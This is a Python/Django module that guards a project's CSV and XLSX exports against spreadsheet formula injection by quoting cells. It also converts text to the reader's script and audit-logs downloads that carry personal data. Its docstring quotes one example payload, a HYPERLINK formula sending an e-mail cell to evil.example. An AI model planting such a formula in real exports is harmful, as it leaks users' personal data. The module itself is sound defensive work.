"""Spreadsheet exports (CSV and XLSX) that open as data, never as formulas.

A spreadsheet program reads a text cell that starts with =, +, -, @, a tab or a carriage return
as a formula (OWASP, "CSV Injection"): a member whose display name is
`=HYPERLINK("http://evil.example/?"&B2,"Click")` would otherwise send the next cell's e-mail
address to a stranger when an admin opens the team export. Every export of the project writes
its cells through this module:

- CSV: such a cell gets a leading single quote, which Excel and LibreOffice read as "this is
  text" and do not show; numbers, dates, booleans and empty cells are written as they are.
- XLSX: such a cell is stored as a string with the cell style's quotePrefix set, the flag Excel
  itself writes when someone types a leading quote: the value stays what the person typed, and
  it stays text even when the cell is edited. Numbers stay numbers.

Exports people read are also written in the reader's script (academy.script, issue 14): text
cells are converted to the script of the active language, except names — a cell marked with
`academy.script.as_written()`, or a Wagtail export column holding a person or a company
(`AS_WRITTEN_FIELDS`, a `*_by` field, a User or Provider value). Files read back by a program
(the question bank's CSV, `csv_writer`) are written exactly as stored.

Every CSV starts with a UTF-8 byte-order mark (BOM): Excel on Windows reads a CSV without one
in the system's legacy code page and garbles Chinese text.

Figures are written the same way everywhere: counts and measures as numbers (a Decimal becomes
a float, `number`), a rate as a number of per cent with one decimal under a heading that says
"(%)" (`percent`), and a percentage inside a sentence as the pages print it, "60%"
(`percent_text`).

Which function to use:
- a list page in the Wagtail admin (a viewset, a ReportView): Wagtail's SpreadsheetExportMixin,
  with `list_export` and `export_headings`; `guard_wagtail_exports` routes it here once at
  start-up (AcademyConfig.ready), and Wagtail's own reports (aging and locked pages, site
  history, redirects, form submissions) with it;
- any other table staff or members download: `spreadsheet_response(filename, headings, rows,
  spreadsheet_format)`, CSV or XLSX from the same rows (offer both: `FORMATS`);
- a file a program reads back (the question bank's CSV): `csv_document`, served by
  `csv_file_response`; inside a ZIP (My data): `csv_document`.
"""

from __future__ import annotations

import csv
import datetime
import io
import itertools
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from django.template.defaultfilters import floatformat
from django.utils import timezone, translation
from django.utils.functional import Promise

from .script import for_language

# OWASP's list: what makes Excel, LibreOffice Calc or Google Sheets start a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
BOM = "\ufeff"
CSV = "csv"
XLSX = "xlsx"
FORMATS = (CSV, XLSX)
CONTENT_TYPES = {
    CSV: "text/csv; charset=utf-8",
    XLSX: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
# Cell values a spreadsheet stores as numbers, dates or booleans, never as text.
TYPED = (int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


# Wagtail export columns that hold what a person typed as a name: never converted.
AS_WRITTEN_FIELDS = {"display_name", "holder_name", "holder", "user", "actor", "subject"}
AS_WRITTEN_FIELDS |= {"applicant", "provider", "company", "lecturer", "member"}


def csv_cell(value: Any, *, for_reader: bool = False) -> Any:
    """The value to write into a CSV cell: numbers, dates, booleans and None as they are;
    anything else as text (in the reader's script when `for_reader`), with a leading quote
    when a spreadsheet would run it."""
    if value is None or isinstance(value, TYPED):  # bool is an int
        return value
    text = str(value) if isinstance(value, Promise) or not isinstance(value, str) else value
    if for_reader:
        text = for_language(text)
    return QUOTE + text if looks_like_formula(text) else text


def csv_text(cell: str) -> str:
    """What a cell read back from one of our CSV exports held before `csv_cell` quoted it
    (for importers of our own files: the question bank's CSV)."""
    if cell.startswith(QUOTE) and looks_like_formula(cell[1:]):
        return cell[1:]
    return cell


class GuardedWriter:
    """csv.writer whose rows go through csv_cell."""

    def __init__(self, file, *, for_reader: bool = False, **options):
        self._writer = csv.writer(file, **options)
        self._for_reader = for_reader

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([csv_cell(v, for_reader=self._for_reader) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file, *, for_reader: bool = False, **options) -> GuardedWriter:
    return GuardedWriter(file, for_reader=for_reader, **options)


def _download(filename: str, spreadsheet_format: str, personal_data_for=None) -> HttpResponse:
    """An empty download response. A file that carries personal data passes
    `personal_data_for=request`: its name says so and the download is written to the audit log
    (academy/audit.py)."""
    if personal_data_for is not None:
        from . import audit

        filename = audit.personal_filename(filename)
        audit.log_personal_export(personal_data_for, filename)
    response = HttpResponse(content_type=CONTENT_TYPES[spreadsheet_format])
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(filename: str, *, personal_data_for=None) -> tuple[HttpResponse, GuardedWriter]:
    """A CSV download (with its BOM) and the writer for its rows, in the reader's script."""
    response = _download(filename, CSV, personal_data_for)
    response.write(BOM)
    return response, csv_writer(response, for_reader=True)


def csv_document(rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV file as text, with its BOM, for files built before there is a response."""
    out = io.StringIO()
    out.write(BOM)
    csv_writer(out).writerows(rows)
    return out.getvalue()


def csv_file_response(filename: str, document: str) -> HttpResponse:
    """A CSV file built by `csv_document` (already guarded, with its BOM) as a download."""
    response = _download(filename, CSV)
    response.write(document)
    return response


def xlsx_cell_value(value: Any, *, for_reader: bool = True) -> Any:
    """The value to store in an XLSX cell: numbers, dates and booleans typed, a Decimal as a
    float, an aware datetime in local time (Excel has no time zones), anything else as text in
    the reader's script."""
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, datetime.datetime):
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if value is None or isinstance(value, TYPED):
        return value
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    text = for_language(str(value)) if for_reader else str(value)
    # Control characters (a vertical tab pasted into a note) are not allowed in the file's XML.
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def xlsx_document(rows: Iterable[Iterable[Any]], *, for_reader: bool = True) -> bytes:
    """A workbook of one sheet holding `rows` (the first row is the headings), every cell
    guarded (`guard_xlsx_cell`)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title="Sheet1")
    for row in rows:
        sheet.append(
            [
                guard_xlsx_cell(WriteOnlyCell(sheet, xlsx_cell_value(v, for_reader=for_reader)))
                for v in row
            ]
        )
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def spreadsheet_response(
    filename: str,
    headings: Iterable[Any],
    rows: Iterable[Iterable[Any]],
    *,
    spreadsheet_format: str = CSV,
    personal_data_for=None,
) -> HttpResponse:
    """A table as a CSV (with its BOM) or XLSX download, `filename` without its extension.

    The same rows make both files; text is written in the reader's script (names marked
    `as_written()` stay as typed) and every cell is guarded against formulas."""
    if spreadsheet_format not in FORMATS:
        raise ValueError(f"unknown spreadsheet format {spreadsheet_format!r}")
    name = f"{filename}.{spreadsheet_format}"
    if spreadsheet_format == CSV:
        response, writer = csv_response(name, personal_data_for=personal_data_for)
        writer.writerow(headings)
        writer.writerows(rows)
        return response
    response = _download(name, XLSX, personal_data_for)
    response.write(xlsx_document(itertools.chain([headings], rows)))
    return response


def number(value: Any) -> Any:
    """A figure for a spreadsheet: a Decimal as a float (12.5, not "12.50"), else as it is."""
    return float(value) if isinstance(value, Decimal) else value


def percent(part: float, whole: float, places: int = 1) -> float | None:
    """`part` of `whole` in per cent with one decimal (66.7), None when `whole` is zero: the
    rates of the reports, under headings that say "(%)"."""
    return round(100 * part / whole, places) if whole else None


def percent_text(value: Any) -> str:
    """A percentage as the pages print it (`{{ value|floatformat:0 }}%`): "60%", not "60.00%"."""
    return "" if value is None else f"{floatformat(value, 0)}%"


def guard_xlsx_cell(cell):
    """An openpyxl cell whose text would read as a formula, kept as quoted text."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def _holds_a_name(field: str, value: Any) -> bool:
    from .models import Provider, User

    name = str(field).rsplit(".", 1)[-1].rsplit("__", 1)[-1]
    return name in AS_WRITTEN_FIELDS or name.endswith("_by") or isinstance(value, User | Provider)


def _in_language(rows, language):
    while True:
        with translation.override(language):
            row = next(rows, None)
        if row is None:
            return
        yield row


def guard_wagtail_exports() -> None:
    """Send every SpreadsheetExportMixin export (CSV and XLSX) through this module.

    Wagtail's own reports cannot take a project mixin, so the methods every export passes
    through are wrapped on the mixin itself: preprocess_field_value gives each cell's final
    value (CSV), generate_xlsx_row builds each XLSX row's cells; stream_csv starts the CSV with
    the BOM and keeps the view's language while the CSV streams. Safe to call twice.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin as Mixin

    if getattr(Mixin, "_academy_guarded", False):
        return
    preprocess_field_value = Mixin.preprocess_field_value
    generate_xlsx_row = Mixin.generate_xlsx_row
    stream_csv = Mixin.stream_csv
    write_csv_response = Mixin.write_csv_response
    as_spreadsheet = Mixin.as_spreadsheet

    def guarded_preprocess_field_value(self, field, value, export_format):
        written = _holds_a_name(field, value)
        value = preprocess_field_value(self, field, value, export_format)
        if isinstance(value, str | Promise) and not written:
            value = for_language(str(value))
        return csv_cell(value) if export_format == self.FORMAT_CSV else value

    def guarded_generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in generate_xlsx_row(self, worksheet, row_dict, date_format=date_format):
            yield guard_xlsx_cell(cell)

    def stream_csv_with_bom_in_language(self, queryset):
        # A CSV export streams after the view returned, when Wagtail's admin language (the
        # editor's preference) is no longer active: headings and cells would come out in the
        # URL's language. Each row is written in the language the view ran in.
        # (Not a generator itself: the language is read now, while the view runs.)
        rows = _in_language(stream_csv(self, queryset), translation.get_language())
        return itertools.chain([BOM.encode()], rows)

    def write_csv_response_in_utf8(self, queryset):
        response = write_csv_response(self, queryset)
        response["Content-Type"] = "text/csv; charset=utf-8"
        return response

    def as_spreadsheet_saying_personal_data(self, queryset, spreadsheet_format):
        # Exports with personal data say so in their name and are audited (academy/audit.py).
        from . import audit

        if not audit.carries_personal_data(self):
            return as_spreadsheet(self, queryset, spreadsheet_format)
        base = audit.personal_filename(self.get_filename())
        self.get_filename = lambda: base
        response = as_spreadsheet(self, queryset, spreadsheet_format)
        audit.log_personal_export(self.request, f"{base}.{spreadsheet_format}")
        return response

    Mixin.as_spreadsheet = as_spreadsheet_saying_personal_data
    Mixin.preprocess_field_value = guarded_preprocess_field_value
    Mixin.stream_csv = stream_csv_with_bom_in_language
    Mixin.write_csv_response = write_csv_response_in_utf8
    Mixin.generate_xlsx_row = guarded_generate_xlsx_row
    Mixin._academy_guarded = True
